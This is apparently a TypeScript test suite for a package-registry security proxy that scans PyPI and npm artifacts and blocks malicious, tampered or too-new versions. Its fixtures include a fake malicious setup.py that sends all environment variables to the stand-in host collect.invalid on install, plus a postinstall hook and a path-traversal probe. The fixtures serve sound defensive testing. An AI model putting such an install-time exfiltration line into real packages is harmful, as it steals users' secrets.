import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { gunzipSync } from 'node:zlib';
import { makeNpmTgz, makeSdist, makeWheel, sha256Hex } from '../helpers/archives.js';
import { GuardProxy } from '../../src/guard/proxy.js';
import type { DecisionEvent } from '../../src/guard/log.js';
import { DEFAULT_POLICY } from '../../src/guard/policy.js';
import type { ArtifactScanner } from '../../src/guard/scanner.js';
import { ScanCache } from '../../src/guard/scanner.js';
import type { RegistryServer } from '../helpers/registry-server.js';
import { startGuardedRegistry, upstreamOf } from './guarded-registry.js';
import type { GuardedRegistry } from './guarded-registry.js';

const NOW = Date.parse('2026-01-10T00:00:00Z');
const goodWheel = makeWheel('goodpkg', '1.0', { 'goodpkg/__init__.py': 'VALUE = 1\n' });
const goodSdist = makeSdist('goodpkg', '1.0', { 'setup.py': 'from setuptools import setup\nsetup(name="goodpkg", version="1.0")\n' });
const evilSdist = makeSdist('evilpkg', '1.0', { 'setup.py': 'import os, urllib.request\nurllib.request.urlopen("http://collect.invalid/", data=repr(dict(os.environ)).encode())\n' });
const tamperWheel = makeWheel('tamperpkg', '1.0', { 'tamperpkg/__init__.py': 'X = 1\n' });
const malOld = makeWheel('malver', '1.0', { 'malver/__init__.py': 'A = 1\n' });
const malNew = makeWheel('malver', '2.0', { 'malver/__init__.py': 'A = 2\n' });
const youngOld = makeWheel('youngpkg', '1.0', { 'youngpkg/__init__.py': 'A = 1\n' });
const youngNew = makeWheel('youngpkg', '1.1', { 'youngpkg/__init__.py': 'A = 2\n' });
const brokenWheel = new TextEncoder().encode('SCAN-ERROR this is not a zip');
const leftPad = makeNpmTgz({ name: 'left-pad', version: '1.0.0' }, { 'index.js': 'module.exports = 1;\n' });
const scoped = makeNpmTgz({ name: '@scope/thing', version: '1.0.0' }, { 'index.js': 'module.exports = 2;\n' });
const evilNpm = makeNpmTgz({ name: 'evil-npm', version: '1.0.0', scripts: { postinstall: 'node x.js' } }, { 'x.js': '/* EVIL */' });
const tamperNpm = makeNpmTgz({ name: 'tamper-npm', version: '1.0.0' }, { 'index.js': '1;' });
const malNpm1 = makeNpmTgz({ name: 'malnpm', version: '1.0.0' }, { 'index.js': '1;' });
const malNpm2 = makeNpmTgz({ name: 'malnpm', version: '2.0.0' }, { 'index.js': '2;' });

/** Fake scanner: evil by package name, a scan error for content starting with SCAN-ERROR. */
let scans = 0;
const fakeScanner: ArtifactScanner = async (bytes, _filename, context) => {
  scans++;
  if (new TextDecoder().decode(bytes.subarray(0, 10)) === 'SCAN-ERROR') throw new Error('cannot unpack');
  if (context.packageName.startsWith('evil')) return { verdict: 'malicious', score: 150, reason: 'setup.py posts os.environ to collect.invalid (setup.py:2, runs on install).' };
  return { verdict: 'clean', score: 0, reason: 'No suspicious behaviour was found.' };
};

let guarded: GuardedRegistry;
let upstream: RegistryServer;
let base = '';
const events: DecisionEvent[] = [];

before(async () => {
  guarded = await startGuardedRegistry(
    {
      pypi: [
        {
          name: 'goodpkg',
          files: [
            { version: '1.0', filename: 'goodpkg-1.0-py3-none-any.whl', bytes: goodWheel, requiresPython: '>=3.7' },
            { version: '1.0', filename: 'goodpkg-1.0.tar.gz', bytes: goodSdist, requiresPython: '>=3.7' },
          ],
        },
        { name: 'evilpkg', files: [{ version: '1.0', filename: 'evilpkg-1.0.tar.gz', bytes: evilSdist }] },
        { name: 'tamperpkg', files: [{ version: '1.0', filename: 'tamperpkg-1.0-py3-none-any.whl', bytes: tamperWheel, tampered: goodWheel }] },
        {
          name: 'malver',
          files: [
            { version: '1.0', filename: 'malver-1.0-py3-none-any.whl', bytes: malOld },
            { version: '2.0', filename: 'malver-2.0-py3-none-any.whl', bytes: malNew },
          ],
        },
        {
          name: 'youngpkg',
          files: [
            { version: '1.0', filename: 'youngpkg-1.0-py3-none-any.whl', bytes: youngOld, uploadTime: '2025-01-01T00:00:00Z' },
            { version: '1.1', filename: 'youngpkg-1.1-py3-none-any.whl', bytes: youngNew, uploadTime: '2026-01-09T12:00:00Z' },
          ],
        },
        { name: 'brokenpkg', files: [{ version: '1.0', filename: 'brokenpkg-1.0-py3-none-any.whl', bytes: brokenWheel }] },
      ],
      npm: [
        { name: 'left-pad', versions: [{ version: '1.0.0', tarball: leftPad }] },
        { name: '@scope/thing', versions: [{ version: '1.0.0', tarball: scoped }] },
        { name: 'evil-npm', versions: [{ version: '1.0.0', tarball: evilNpm }] },
        { name: 'tamper-npm', versions: [{ version: '1.0.0', tarball: tamperNpm, tampered: leftPad }] },
        {
          name: 'malnpm',
          versions: [
            { version: '1.0.0', tarball: malNpm1 },
            { version: '2.0.0', tarball: malNpm2, time: '2026-01-09T00:00:00Z' },
          ],
        },
      ],
    },
    {
      policy: { ...DEFAULT_POLICY, minReleaseAgeMs: 3 * 86_400_000, allow: [], deny: [] },
      cache: new ScanCache(fakeScanner),
      isKnownMalicious: (eco, name, version) => (eco === 'pypi' && name === 'malver' && version === '2.0') || (eco === 'npm' && name === 'malnpm' && version === '2.0.0'),
      onDecision: (e) => events.push(e),
      upstream: { retries: 0, timeoutMs: 5_000 },
      now: () => NOW,
    },
  );
  upstream = guarded.upstream;
  base = guarded.url;
});

after(async () => {
  await guarded.close();
});

async function bytesOf(res: Response): Promise<Uint8Array> {
  return new Uint8Array(await res.arrayBuffer());
}

test('PEP 691 JSON page: file URLs go through the proxy, hashes preserved', async () => {
  const res = await fetch(`${base}/pypi/simple/GoodPkg/`, { headers: { accept: 'application/vnd.pypi.simple.v1+json' } });
  assert.equal(res.status, 200);
  assert.equal(res.headers.get('content-type'), 'application/vnd.pypi.simple.v1+json');
  const doc = (await res.json()) as { files: { filename: string; url: string; hashes: { sha256: string } }[] };
  assert.equal(doc.files.length, 2);
  const wheel = doc.files.find((f) => f.filename.endsWith('.whl'))!;
  assert.equal(wheel.url, '/pypi/files/goodpkg/goodpkg-1.0-py3-none-any.whl');
  assert.equal(wheel.hashes.sha256, sha256Hex(goodWheel));
});

test('PEP 503 HTML page by Accept header, hash fragment kept', async () => {
  const res = await fetch(`${base}/pypi/simple/goodpkg/`, { headers: { accept: 'text/html' } });
  assert.equal(res.status, 200);
  assert.match(res.headers.get('content-type') ?? '', /text\/html/);
  const html = await res.text();
  assert.ok(html.includes(`href="/pypi/files/goodpkg/goodpkg-1.0-py3-none-any.whl#sha256=${sha256Hex(goodWheel)}"`), html);
  assert.ok(!html.includes(upstream.url), 'no upstream URL leaks into the page');
});

test('an HTML-only upstream is parsed and re-served', async () => {
  upstream.htmlOnly = true;
  try {
    const res = await fetch(`${base}/pypi/simple/goodpkg/`, { headers: { accept: 'application/vnd.pypi.simple.v1+json' } });
    const doc = (await res.json()) as { files: { url: string; hashes: Record<string, string>; 'requires-python'?: string }[] };
    assert.equal(doc.files.length, 2);
    assert.equal(doc.files[0]!['requires-python'], '>=3.7');
    assert.ok(doc.files.every((f) => f.url.startsWith('/pypi/files/goodpkg/') && typeof f.hashes.sha256 === 'string'));
  } finally {
    upstream.htmlOnly = false;
  }
});

test('a benign file arrives byte-identical, and the second time from the scan cache', async () => {
  const before = scans;
  const first = await fetch(`${base}/pypi/files/goodpkg/goodpkg-1.0-py3-none-any.whl`);
  assert.equal(first.status, 200);
  assert.equal(first.headers.get('content-length'), String(goodWheel.byteLength));
  assert.deepEqual(await bytesOf(first), goodWheel);
  const second = await fetch(`${base}/pypi/files/goodpkg/goodpkg-1.0-py3-none-any.whl`);
  assert.deepEqual(await bytesOf(second), goodWheel);
  assert.equal(scans, before + 1);
  const allows = events.filter((e) => e.action === 'allow' && e.file === 'goodpkg-1.0-py3-none-any.whl');
  assert.deepEqual(allows.map((e) => e.cached), [false, true]);
  assert.equal(allows[0]!.sha256, sha256Hex(goodWheel));
});

test('a file is served even when the proxy never showed the page (restart, cached page)', async () => {
  const fresh = new GuardProxy({ ...upstreamOf(upstream), cache: new ScanCache(fakeScanner), upstream: { retries: 0 } });
  const addr = await fresh.listen();
  try {
    const res = await fetch(`${addr.url}/pypi/files/goodpkg/goodpkg-1.0.tar.gz`);
    assert.equal(res.status, 200);
    assert.deepEqual(await bytesOf(res), goodSdist);
  } finally {
    await fresh.close(500);
  }
});

test('a malicious sdist is refused with 403 and a one-line reason', async () => {
  const res = await fetch(`${base}/pypi/files/evilpkg/evilpkg-1.0.tar.gz`);
  assert.equal(res.status, 403);
  assert.match(res.statusText, /^Blocked by Vigil: evilpkg-1\.0\.tar\.gz: malicious \(score 150\): setup\.py posts os\.environ/);
  const body = await res.text();
  assert.equal(body.trim().split('\n').length, 1);
  assert.match(body, /collect\.invalid/);
  const block = events.find((e) => e.action === 'block' && e.package === 'evilpkg');
  assert.equal(block?.verdict, 'malicious');
});

test('a tampered upstream file is refused and never scanned', async () => {
  const before = scans;
  const res = await fetch(`${base}/pypi/files/tamperpkg/tamperpkg-1.0-py3-none-any.whl`);
  assert.equal(res.status, 403);
  assert.match(await res.text(), /integrity check failed: sha256 of the downloaded file does not match the index/);
  assert.equal(scans, before);
});

test('versions with MAL advisories are hidden from the listing and refused directly', async () => {
  const res = await fetch(`${base}/pypi/simple/malver/`, { headers: { accept: 'application/vnd.pypi.simple.v1+json' } });
  const doc = (await res.json()) as { files: { filename: string }[]; versions?: string[] };
  assert.deepEqual(doc.files.map((f) => f.filename), ['malver-1.0-py3-none-any.whl']);
  assert.deepEqual(doc.versions, ['1.0']);
  const direct = await fetch(`${base}/pypi/files/malver/malver-2.0-py3-none-any.whl`);
  assert.equal(direct.status, 403);
  assert.match(await direct.text(), /known malicious/);
  assert.ok(events.some((e) => e.action === 'hide' && e.package === 'malver' && e.versions?.includes('2.0')));
});

test('versions younger than min-release-age are hidden', async () => {
  const res = await fetch(`${base}/pypi/simple/youngpkg/`, { headers: { accept: 'text/html' } });
  const html = await res.text();
  assert.ok(html.includes('youngpkg-1.0-py3-none-any.whl'));
  assert.ok(!html.includes('youngpkg-1.1'));
});

test('a scan failure fails closed by default and open when configured', async () => {
  const closed = await fetch(`${base}/pypi/files/brokenpkg/brokenpkg-1.0-py3-none-any.whl`);
  assert.equal(closed.status, 403);
  assert.match(await closed.text(), /the scan failed \(cannot unpack\)/);
  const open = new GuardProxy({
    ...upstreamOf(upstream),
    policy: { ...DEFAULT_POLICY, failClosedOnScanError: false },
    cache: new ScanCache(fakeScanner),
  });
  const addr = await open.listen();
  try {
    const res = await fetch(`${addr.url}/pypi/files/brokenpkg/brokenpkg-1.0-py3-none-any.whl`);
    assert.equal(res.status, 200);
    assert.deepEqual(await bytesOf(res), brokenWheel);
  } finally {
    await open.close(500);
  }
});

test('unknown projects are 404 and an unreachable upstream is 502', async () => {
  assert.equal((await fetch(`${base}/pypi/simple/nope/`)).status, 404);
  assert.equal((await fetch(`${base}/pypi/simple/..%2fetc/`)).status, 404);
  const dead = new GuardProxy({ upstreamPypi: 'http://127.0.0.1:9/simple/', upstreamNpm: 'http://127.0.0.1:9/', upstream: { retries: 1, retryDelayMs: 1, timeoutMs: 1_000 } });
  const addr = await dead.listen();
  try {
    const res = await fetch(`${addr.url}/pypi/simple/goodpkg/`);
    assert.equal(res.status, 502);
    const npm = await fetch(`${addr.url}/npm/left-pad`);
    assert.equal(npm.status, 502);
    assert.match(((await npm.json()) as { error: string }).error, /upstream registry unavailable/);
  } finally {
    await dead.close(500);
  }
});

test('npm packument: tarball URLs rewritten to the proxy', async () => {
  const res = await fetch(`${base}/npm/left-pad`);
  assert.equal(res.status, 200);
  const doc = (await res.json()) as { versions: Record<string, { dist: { tarball: string; integrity: string } }> };
  assert.equal(doc.versions['1.0.0']!.dist.tarball, `${base}/npm/left-pad/-/left-pad-1.0.0.tgz`);
  const tgz = await fetch(doc.versions['1.0.0']!.dist.tarball);
  assert.equal(tgz.status, 200);
  assert.deepEqual(await bytesOf(tgz), leftPad);
});

test('npm scoped packument (@scope%2fname) and tarball', async () => {
  const res = await fetch(`${base}/npm/@scope%2fthing`);
  assert.equal(res.status, 200);
  const doc = (await res.json()) as { versions: Record<string, { dist: { tarball: string } }> };
  const url = doc.versions['1.0.0']!.dist.tarball;
  assert.equal(url, `${base}/npm/@scope/thing/-/thing-1.0.0.tgz`);
  assert.deepEqual(await bytesOf(await fetch(url)), scoped);
});

test('npm: a malicious tarball is refused with a JSON error', async () => {
  await fetch(`${base}/npm/evil-npm`);
  const res = await fetch(`${base}/npm/evil-npm/-/evil-npm-1.0.0.tgz`);
  assert.equal(res.status, 403);
  const body = (await res.json()) as { error: string };
  assert.match(body.error, /^Blocked by Vigil: evil-npm@1\.0\.0: malicious/);
});

test('npm: a tampered tarball is refused', async () => {
  const res = await fetch(`${base}/npm/tamper-npm/-/tamper-npm-1.0.0.tgz`);
  assert.equal(res.status, 403);
  assert.match(((await res.json()) as { error: string }).error, /sha512 integrity of the tarball does not match/);
});

test('npm: MAL and too-young versions are removed and dist-tags fixed', async () => {
  const res = await fetch(`${base}/npm/malnpm`);
  const doc = (await res.json()) as { versions: Record<string, unknown>; 'dist-tags': Record<string, string>; time: Record<string, string> };
  assert.deepEqual(Object.keys(doc.versions), ['1.0.0']);
  assert.equal(doc['dist-tags'].latest, '1.0.0');
  assert.equal(doc.time['2.0.0'], undefined);
  const direct = await fetch(`${base}/npm/malnpm/-/malnpm-2.0.0.tgz`);
  assert.equal(direct.status, 403);
});

test('concurrent requests for one file all get the same bytes and share one scan', async () => {
  let own = 0;
  const counting: ArtifactScanner = async (bytes, filename, context) => {
    own++;
    await new Promise((resolve) => setTimeout(resolve, 20));
    return fakeScanner(bytes, filename, context);
  };
  const fresh = new GuardProxy({ ...upstreamOf(upstream), cache: new ScanCache(counting) });
  const addr = await fresh.listen();
  try {
    await fetch(`${addr.url}/npm/left-pad`);
    const all = await Promise.all(Array.from({ length: 20 }, () => fetch(`${addr.url}/npm/left-pad/-/left-pad-1.0.0.tgz`).then(bytesOf)));
    for (const b of all) assert.deepEqual(b, leftPad);
    assert.equal(own, 1);
    assert.ok(gunzipSync(all[0]!).byteLength > 0);
  } finally {
    await fresh.close(500);
  }
});

test('only GET and HEAD are served', async () => {
  const res = await fetch(`${base}/npm/left-pad`, { method: 'PUT', body: '{}' });
  assert.equal(res.status, 405);
  const head = await fetch(`${base}/pypi/files/goodpkg/goodpkg-1.0-py3-none-any.whl`, { method: 'HEAD' });
  assert.equal(head.status, 200);
  assert.equal(head.headers.get('content-length'), String(goodWheel.byteLength));
});

test('a private upstream: credentials from the index URL are used for its files and never reach the client', async () => {
  const { createServer } = await import('node:http');
  const expected = `Basic ${Buffer.from('me:s3cret').toString('base64')}`;
  const seen: (string | undefined)[] = [];
  const server = createServer((req, res) => {
    seen.push(req.headers.authorization);
    if (req.headers.authorization !== expected) {
      res.writeHead(401).end();
      return;
    }
    if (req.url === '/simple/goodpkg/') {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(`<a href="/files/goodpkg-1.0-py3-none-any.whl#sha256=${sha256Hex(goodWheel)}">goodpkg-1.0-py3-none-any.whl</a>`);
      return;
    }
    res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(goodWheel);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as { port: number }).port;
  const priv = new GuardProxy({ upstreamPypi: `http://me:s3cret@127.0.0.1:${port}/simple/`, upstreamNpm: upstream.npmRegistryUrl, cache: new ScanCache(fakeScanner) });
  const addr = await priv.listen();
  try {
    const page = await (await fetch(`${addr.url}/pypi/simple/goodpkg/`)).text();
    assert.ok(!page.includes('s3cret') && !page.includes(String(port)));
    const file = await fetch(`${addr.url}/pypi/files/goodpkg/goodpkg-1.0-py3-none-any.whl`);
    assert.equal(file.status, 200);
    assert.deepEqual(await bytesOf(file), goodWheel);
    assert.ok(seen.length >= 2 && seen.every((h) => h === expected));
  } finally {
    await priv.close(500);
    server.closeAllConnections();
    server.close();
  }
});
